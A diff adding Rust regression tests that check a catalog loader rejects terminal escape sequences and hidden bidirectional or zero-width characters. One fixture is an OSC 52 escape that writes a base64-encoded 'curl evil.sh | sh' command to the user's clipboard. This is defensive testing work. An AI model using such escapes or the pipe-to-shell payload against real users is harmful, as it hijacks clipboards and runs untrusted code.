@@ -506,6 +506,38 @@ fn control_characters_in_a_command_are_errors() {
 }
 
 #[test]
+fn catalog_text_reaching_the_terminal_raw_is_an_error_in_every_field() {
+    // Regression (issue 11 #2): escapes in titles, symptoms and signals
+    // passed `check`, and `list`/`show`/`search` printed them as bytes:
+    // OSC 52 wrote the user's clipboard.
+    let title = "Fine\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007";
+    let cases = [
+        ("title", format!("title = \"{title}\"\nsymptom = \"s\"\n")),
+        ("symptom", "title = \"t\"\nsymptom = \"clears \\u001b[2J the screen\"\n".to_owned()),
+        ("signals", "title = \"t\"\nsymptom = \"s\"\nsignals = [\"ok\", \"bell \\u0007\"]\n".to_owned()),
+        ("recovery", "title = \"t\"\nsymptom = \"s\"\nrecovery = \"8-bit CSI \\u009b2J\"\n".to_owned()),
+    ];
+    for (key, fields) in cases {
+        let dir = Dir::new();
+        dir.write("a.toml", format!("[[failure]]\nid = \"raw\"\n{fields}"));
+        let found: Vec<String> = dir.load().diagnostics.iter().map(ToString::to_string).collect();
+        let expected = format!("`{key}` holds control character U+");
+        assert!(found.iter().any(|d| d.contains(&expected)), "{key}: {found:?}");
+        assert!(found.iter().all(|d| !d.contains('\u{1b}') && !d.contains('\u{7}')), "printed raw: {found:?}");
+    }
+}
+
+#[test]
+fn bidirectional_and_zero_width_characters_in_a_command_are_errors() {
+    for hidden in ["\\u202e", "\\u200b", "\\u2066"] {
+        let dir = Dir::new();
+        let step = format!("[[failure.steps]]\ndo = \"x\"\nrun = \"echo safe {hidden}; ls\"\n");
+        dir.write("a.toml", format!("{GOOD}\n{}", failure("hidden", &step)));
+        assert_one(&dir.load(), "a.toml", 26, 7, Level::Error, "makes it read otherwise than it runs");
+    }
+}
+
+#[test]
 fn a_destructive_command_marked_safe_is_a_warning() {
     let dir = Dir::new();
     dir.write(
